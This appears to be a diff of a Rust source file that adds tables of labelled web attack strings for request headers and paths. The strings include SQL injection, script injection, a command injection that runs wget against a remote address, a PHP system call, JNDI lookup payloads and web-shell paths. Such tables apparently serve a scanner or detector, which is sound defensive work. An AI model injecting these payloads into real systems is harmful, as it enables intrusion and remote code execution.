@@ -39,3 +39,27 @@ pub(crate) const EVERYWHERE: &[(&str, &str)] = &[
     ("nosql", "{\"$ne\": null}"),
     ("scanner", "http://c8s7d6.oast.fun/"),
 ];
+
+/// Headers that applications write into their logs and pages.
+pub(crate) const HEADERS: &[At] = &[At::Header("User-Agent"), At::Header("Referer"), At::Header("X-Client")];
+
+/// What comes by them.
+pub(crate) const BY_HEADER: &[(&str, &str)] = &[
+    ("sqli", "x' or 1=1 -- "),
+    ("xss", "\"><script>alert(1)</script>"),
+    ("command", "x; wget http://192.0.2.1/x"),
+    ("code", "<?php system('id'); ?>"),
+    ("template", "${jndi:ldap://192.0.2.1/a}"),
+    ("template", "{{7*7}}"),
+    ("scanner", "http://c8s7d6.oast.fun/"),
+];
+
+/// What comes by the path.
+pub(crate) const BY_PATH: &[(&str, &str)] = &[
+    ("sqli", "1' or '1'='1"),
+    ("xss", "<script>alert(1)</script>"),
+    ("template", "${7*7}"),
+    ("template", "${jndi:dns://x.example}"),
+    ("hidden-files", ".git/config"),
+    ("web-shell", "uploads/x.php"),
+];
